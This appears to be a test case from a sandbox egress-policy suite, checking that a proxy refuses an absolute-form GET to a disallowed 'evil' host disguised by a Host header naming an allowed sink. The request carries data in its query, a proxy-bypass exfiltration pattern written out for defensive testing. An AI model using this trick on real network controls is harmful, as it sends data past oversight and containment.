from ._net import ALLOW, PROXY

ID = "net.proxy-absolute-form"
CATEGORY = "network"
DESCRIPTION = "absolute-form GET to a name not allowed (evil.probe.test) with a Host header naming the allowed one"
CLAIMS = ("rule:network.mode",)
POLICY = ALLOW
CODE = PROXY + """
req = (f"GET http://evil.{DOMAIN}:{SINK_PORT}/x?d={DATA} HTTP/1.1\\r\\n"
       f"Host: sink.{DOMAIN}:{SINK_PORT}\\r\\nConnection: close\\r\\n\\r\\n")
judge_reply("GET http://evil/ with Host: sink", proxy_send(req.encode()))
"""
# the same target with a Host that agrees and the name allowed: the path to the sink works
CONTROL = {"code": PROXY + 'get(f"evil.{DOMAIN}:{SINK_PORT}")\n', "where": "sandbox",
           "policy": {"network": {"allow": ["*.{DOMAIN}:{SINK_PORT}"]}}}
CONTAINED = "the proxy judges the request by its target and refuses it: the sink receives nothing"
